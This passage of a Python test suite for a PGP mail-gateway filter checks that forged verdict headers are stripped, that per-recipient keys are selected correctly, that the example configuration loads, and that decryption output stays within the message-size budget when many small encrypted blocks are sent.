    """auto passes mail encrypted to somebody else's key as it is -- all but the verdicts
    the sender wrote: that early return used to come before they were removed."""
    data = make(world)
    auto_b = decrypter(world, direction="auto", uid=World.A_UID)
    delivered, _, notices = run(auto_b, FORGED + data)
    assert delivered == data and notices == []
    assert run(auto_b, data)[0] == data                 # nothing forged: byte for byte


def test_forged_verdicts_are_removed_on_the_way_out_too(world, run):
    """pos in clear (no key for the recipient) and pos passing encrypted mail on."""
    clear = gateway(world.sending, direction="pos", per_recipient=True)
    plain = text_message(b"Hello Carol.\n")
    delivered, _, _ = run(clear, FORGED + plain, recipients=("carol@b.example",))
    assert delivered == plain
    encrypted = foreign_inline(world)
    delivered, _, _ = run(encrypter(world), FORGED + encrypted)
    assert delivered == encrypted
    sealed, _, _ = run(encrypter(world), FORGED + plain)
    assert field(sealed, "X-ispMailGate-PGP") == ["pos"]
    assert not field(sealed, "X-ispMailGate-PGP-Result") and not field(sealed, "X-ispMailGate-PGP-Signature")


# -- per recipient -------------------------------------------------------------------------

def test_per_recipient_variants_follow_the_keys(world):
    step = gateway(world.sending, direction="pos", per_recipient=True)
    variants = {r: step.variant(r) for r in ("alice@b.example", "Alice.Smith@b.example", "bob@b.example",
                                             "carol@b.example", "malice@b.example")}
    assert variants["alice@b.example"] == variants["Alice.Smith@b.example"] == world.alice_key
    assert variants["bob@b.example"] == world.bob_key
    assert variants["carol@b.example"] == variants["malice@b.example"] == "no key"
    assert gateway(world.sending, direction="pos", uid=World.B_UID).variant("alice@b.example") is None


def test_python_gnupg_is_imported_lazily():
    probe = subprocess.run([sys.executable, "-c", "import sys, ispmailgate_filters.pgp; "
                            "print('gnupg' in sys.modules, 'tomllib' in sys.modules)"],
                           capture_output=True, text=True, check=True)
    assert probe.stdout.split() == ["False", "False"]


def test_the_example_rule_file_loads():
    from ispmailgate_core import routing, rules
    from conftest import PROJECT

    config = rules.load_config(PROJECT / "examples" / "pgp-gateway.toml")
    partner, incoming, others = (config.filters[name] for name in ("to-partner", "from-outside", "per-recipient"))
    assert (partner.direction, partner.uid, partner.sign) == ("pos", "Gateway B <gw@example-b.net>", True)
    assert incoming.direction == "neg" and others.per_recipient and others.on_missing_key == "clear"
    assert routing.route(config, "x@example-a.net", "y@example-b.net").chain == (partner,)
    assert routing.route(config, "x@elsewhere.example", "y@example-a.net").chain == (incoming,)


def test_many_small_bombs_stop_at_the_message_budget(world, tmp_path):
    """Attack review 1, finding 2: each block under max_size, together far more than the
    largest message the gate accepts (6 blocks of 50 MB: 327 MB delivered from 4 KB)."""
    from ispmailgate_filters.base import Budget

    armor = world.sending.encrypt(b"A" * (3 << 20), "gw@b.example")
    data = text_message(b"".join(b"Block %d:\n" % i + armor + b"\n" for i in range(6)))
    assert len(data) < 100_000
    message, budget = Message(data), Budget(output=8 << 20)      # max_message_size 8M
    ctx = Context(Envelope("someone@c.example", ("user@b.example",)), message_id="T",
                  log=logging.getLogger("ispmailgate.pgp"), workdir=lambda: tmp_path,
                  postmaster="postmaster@b.example", notices=[], budget=budget)
    decrypter(world, max_size="4M").process(message, ctx)
    delivered = bytes(message.to_bytes())
    assert len(delivered) < 8 << 20
    assert delivered.count(b"A" * 60) > 2 * (3 << 20) // 80      # what fits is decrypted
    results = field(delivered, "X-ispMailGate-PGP-Result")
    assert "decrypted; scope=inline" in results
    assert any("max_message_size (8388608 bytes)" in result for result in results), results
